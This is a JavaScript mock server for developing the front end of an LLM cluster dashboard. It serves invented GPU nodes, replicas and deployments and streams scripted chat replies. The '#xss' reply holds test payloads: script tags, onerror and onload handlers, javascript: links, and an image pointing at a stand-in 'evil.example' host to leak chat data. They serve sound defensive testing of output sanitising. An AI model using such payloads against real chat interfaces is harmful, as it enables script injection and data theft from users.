// A stand-in for the server, for work on the page alone: the same routes and fields, an invented cluster, scripted
// answers. `node dev/mock-server.mjs [--port N] [--key KEY] [--dist DIR]`; prints "ready http://127.0.0.1:PORT".
// The last user message picks the answer: "#xss", "#error", "#cut", "#503", "#long", "#slow", "#code"; else an echo.
import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { extname, join, normalize } from 'node:path';
import { fileURLToPath } from 'node:url';

const argument = (name, fallback) => {
  const at = process.argv.indexOf(`--${name}`);
  return at > 0 ? process.argv[at + 1] : fallback;
};
const port = Number(argument('port', '0'));
const key = argument('key', '');
const dist = argument('dist', fileURLToPath(new URL('../dist', import.meta.url)));

const GiB = 1024 ** 3;
const MiB = 1024 ** 2;
const hostile = '<img src=x onerror="window.pwned=1">';
const device = (id, name, gib, foreign = 0, kind = 'software', extra = {}) => ({
  id, node: id.split('/')[0], name, backend: 'vulkan', kind, vram_bytes: gib * GiB, free_bytes: gib * GiB - foreign,
  foreign_bytes: foreign, reserved_bytes: 0, ...extra,
});
const devices = [
  device('n1/0', 'GTX 1080', 8, 1.1 * GiB), device('n1/1', 'RX 580', 8), device('n2/0', 'RTX 3060', 12),
  device('lab-pc3/0', 'GTX 1050 Ti', 4, 0.4 * GiB, 'gpu'),
  device('lab-pc3/1', 'GT 710', 2, 0, 'gpu', { refused: 'no 16-bit storage: no engine for this card' }),
];
const nodes = [
  { id: 'n1', state: 'ready', failure_domain: 'n1', devices: ['n1/0', 'n1/1'] },
  { id: 'n2', state: 'ready', failure_domain: 'n2', devices: ['n2/0'] },
  { id: 'lab-pc3', state: 'suspect', failure_domain: 'rack-b', devices: ['lab-pc3/0', 'lab-pc3/1'] },
];
const part = (id, weights, kv, compute, overhead = 150 * MiB) => ({
  id, weights: Math.round(weights * GiB), kv: Math.round(kv * GiB), compute: Math.round(compute * GiB),
  bytes: Math.round((weights + kv + compute) * GiB) + overhead,
});
const replica = (id, deployment, node, state, parts, extra = {}) => ({
  id, deployment, model: `${deployment}-q4`, node, state, reason: '', devices: parts, slots: 4, slots_busy: 1,
  pid: 4711, started_at: '2026-01-01T00:00:00Z', ...extra,
});
const replicas = [
  replica('stories-aa11', 'stories260k', 'n1', 'ready', [part('n1/0', 0.4, 0.5, 0.3)]),
  replica('qwen3-8b-bb22', 'qwen3-8b', 'n1', 'ready', [part('n1/1', 4.7, 1.1, 0.6)], { slots_busy: 3 }),
  replica('qwen3-8b-cc33', 'qwen3-8b', 'n2', 'loading', [part('n2/0', 4.7, 1.1, 0.6)], { progress: 0.62, reason: 'loading weights' }),
  replica('mistral-dd44', 'mistral-7b', 'n2', 'ready', [part('n2/0', 3.9, 0.5, 0.3)]),
  replica('gemma-ee55', 'gemma-2b', 'lab-pc3', 'pending', [part('lab-pc3/0', 1.6, 0.4, 0.3)], { reason: 'waits for the node to answer' }),
];
const deployments = [
  { name: 'qwen3-8b', model: 'qwen3-8b-q4', replicas: { min: 2, max: 2, ready: 1 }, ctx: 8192, slots: 4, state: 'loading', reason: 'one of two replicas is loading on n2', survives_node_loss: false },
  { name: 'stories260k', model: 'stories260k', replicas: { min: 1, max: 1, ready: 1 }, ctx: 2048, slots: 4, state: 'ready', reason: '', survives_node_loss: false },
  { name: 'mistral-7b', model: 'mistral-7b-q4', replicas: { min: 1, max: 3, ready: 1 }, ctx: 4096, slots: 2, state: 'ready', reason: '', survives_node_loss: true },
  { name: 'gemma-2b', model: 'gemma-2b', replicas: { min: 1, max: 1, ready: 0 }, ctx: 4096, slots: 2, state: 'pending', reason: 'waits for node lab-pc3', survives_node_loss: false },
  { name: 'llama-70b', model: 'llama-70b-q4', replicas: { min: 1, max: 1, ready: 0 }, ctx: 8192, slots: 1, state: 'failed', reason: 'needs 41.2 GiB on one node; n1 has 14.9 GiB free. Try a smaller quantisation, or aiv plan --models', survives_node_loss: false },
];

const scripts = {
  '#xss': [
    `Look: ${hostile}<script>window.pwned=1</script> [click](javascript:window.pwned=1) `,
    '![leak](https://evil.example/p.png?chat=secret) <svg onload=window.pwned=1> ',
    '<a href="https://example.org" onclick="window.pwned=1">raw</a> [ok](https://example.org)\n',
    '```html\n<img src=x onerror=window.pwned=1>\n```\n',
  ],
  '#code': [
    'Here is a **short** program that counts:\n\n```python\ndef count(n: int) -> list[int]:\n    """All numbers below n."""\n',
    '    return [i for i in range(n) if i % 2 == 0]\n```\n\n| card | memory |\n| --- | --- |\n| GTX 1080 | 8 GiB |\n| RTX 3060 | 12 GiB |\n\n',
    '1. It reads `n`.\n2. It keeps what is *even*.\n\n> Nothing else happens.\n',
  ],
};
const words = (n, of = 'once upon a time there was a small card that still had work to do '.split(' ').filter(Boolean)) =>
  Array.from({ length: n }, (_, i) => `${of[i % of.length]}${i % 14 === 13 ? '. ' : ' '}`);

function answerOf(text) {
  for (const [mark, pieces] of Object.entries(scripts)) if (text.includes(mark)) return pieces;
  if (text.includes('#long')) return words(400);
  if (text.includes('#slow')) return words(2000);
  return [`You said: ${text}. `, ...words(24)];
}

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const json = (response, status, body, extra = {}) => {
  response.writeHead(status, { 'content-type': 'application/json', 'x-request-id': 'req-mock', ...extra });
  response.end(JSON.stringify(body));
};
const failure = (response, status, message, code, extra) =>
  json(response, status, { error: { message, type: 'invalid_request_error', param: null, code } }, extra);

async function chat(request, response) {
  let body = '';
  for await (const piece of request) body += piece;
  const { model, messages, stream_options } = JSON.parse(body);
  const text = String(messages.findLast((m) => m.role === 'user')?.content ?? '');
  if (text.includes('#503')) {
    return failure(response, 503, `${model} is loading on n2, about 14 s`, 'loading', { 'retry-after': '14' });
  }
  response.writeHead(200, {
    'content-type': 'text/event-stream', 'cache-control': 'no-cache', 'x-request-id': 'req-mock', 'x-aiv-replica': 'qwen3-8b-bb22',
  });
  const send = (delta, finish_reason = null, rest = {}) =>
    response.write(`data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model, choices: [{ index: 0, delta, finish_reason }], ...rest })}\n\n`);
  send({ role: 'assistant', content: '' });
  const pieces = answerOf(text);
  let sent = 0;
  for (const piece of pieces) {
    if (response.destroyed) return;
    await sleep(text.includes('#slow') ? 30 : 10);
    send({ content: piece });
    sent++;
    if (text.includes('#error') && sent === 5) {
      response.write('data: {"error":{"message":"replica qwen3-8b-cc33 was lost and the answer cannot be resumed","type":"api_error","param":null,"code":"replica_failed"}}\n\n');
      return response.end();
    }
    if (text.includes('#cut') && sent === 5) return response.end();
  }
  send({}, 'stop');
  if (stream_options?.include_usage) {
    response.write(`data: ${JSON.stringify({ id: 'c1', model, choices: [], usage: { prompt_tokens: 5, completion_tokens: sent, total_tokens: sent + 5 } })}\n\n`);
  }
  response.end('data: [DONE]\n\n');
}

const types = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };
async function file(path, response) {
  const name = path === '/' || !path.split('/').pop().includes('.') ? '/index.html' : path;
  try {
    const bytes = await readFile(join(dist, normalize(name)));
    response.writeHead(200, {
      'content-type': types[extname(name)] ?? 'application/octet-stream',
      'content-security-policy': "default-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'",
    });
    response.end(bytes);
  } catch {
    failure(response, 404, `no file ${name}`, 'not_found');
  }
}

const lists = { nodes, devices, deployments, replicas };
const server = createServer((request, response) => {
  const path = new URL(request.url, 'http://mock').pathname;
  const api = path.startsWith('/v1/') || path.startsWith('/aiv/');
  if (path === '/health') return json(response, 200, { status: 'ok', stale: false, auth: key !== '' });
  if (api && key !== '' && request.headers.authorization !== `Bearer ${key}`) {
    return failure(response, 401, 'key unknown or expired', 'invalid_api_key');
  }
  if (path === '/v1/models') {
    return json(response, 200, { object: 'list', data: deployments.filter((d) => d.state !== 'failed').map((d) => ({ id: d.name, object: 'model', created: 1, owned_by: 'aivailable' })) });
  }
  if (path === '/v1/chat/completions') return void chat(request, response).catch(() => response.destroy());
  const name = path.match(/^\/aiv\/v1\/(\w+)$/)?.[1];
  if (name !== undefined && name in lists) return json(response, 200, { items: lists[name], revision: 1 });
  if (api) return failure(response, 404, `no route ${path}`, 'not_found');
  return void file(path, response);
});
server.listen(port, '127.0.0.1', () => console.log(`ready http://127.0.0.1:${server.address().port}`));
